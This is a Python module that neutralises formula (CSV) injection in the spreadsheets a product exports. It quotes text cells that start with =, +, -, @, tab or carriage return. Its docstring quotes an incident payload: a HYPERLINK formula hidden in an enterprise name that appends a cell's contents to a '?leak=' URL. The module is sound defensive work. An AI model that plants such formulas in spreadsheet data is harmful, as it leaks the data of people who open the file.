"""Cells of the spreadsheets the product writes, as data and never as formulas (issue 15: an enterprise
named ``=HYPERLINK("http://…?leak="&B2,"点击查看")`` came back as a live link in the registry export and
the problem ledger).

Following OWASP's guidance on formula (CSV) injection, a text that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written as a text cell with a single quote in front, so that no
spreadsheet runs it, even once the sheet is copied, pasted or saved as CSV. Numbers, dates and booleans
stay what they are: the number -5 is the number -5. Any *text* starting with those characters is
prefixed, whatever it looks like, so the text "-5", a phone number "+86 023 …" and "-5+A1" all become
"'-5", "'+86 023 …" and "'-5+A1"; telling a harmless text from a formula is what spreadsheets get wrong.
A text that already starts with a quote gets one more, so that :func:`restore` (used by the import)
gives back exactly what was written: export then import keeps "=SUM(1)" and "'abc" as they were.

Every workbook the product writes builds its rows with :func:`append_row`. The product writes no CSV;
one that it writes some day neutralises its fields with :func:`neutralise` the same way.
"""
from __future__ import annotations

from datetime import date, datetime

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PREFIXED = (*FORMULA_TRIGGERS, QUOTE)


def neutralise(value):
    """``value`` as a spreadsheet should hold it: a text a spreadsheet could run, quoted; anything else as is."""
    if isinstance(value, str) and value.startswith(_PREFIXED):
        return QUOTE + value
    return value


def restore(value):
    """The inverse of :func:`neutralise` for what it wrote; any other value (a quote typed before a plain
    name, a number) as is."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(_PREFIXED):
        return value[1:]
    return value


def append_row(sheet, values: list) -> None:
    """Append ``values`` to ``sheet`` (openpyxl) with every text neutralised and stored as a text cell."""
    sheet.append([neutralise(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":  # openpyxl makes any text starting with "=" a formula
            cell.data_type = "s"


def as_date(value) -> date | None:
    """A date cell or field as a date: a date (or a datetime's day), a ``YYYY-MM-DD`` text, or none when
    empty; any other text raises ValueError, which the caller reports by field."""
    if value in (None, ""):
        return None
    if isinstance(value, datetime):
        return value.date()
    if isinstance(value, date):
        return value
    return date.fromisoformat(str(value).strip())
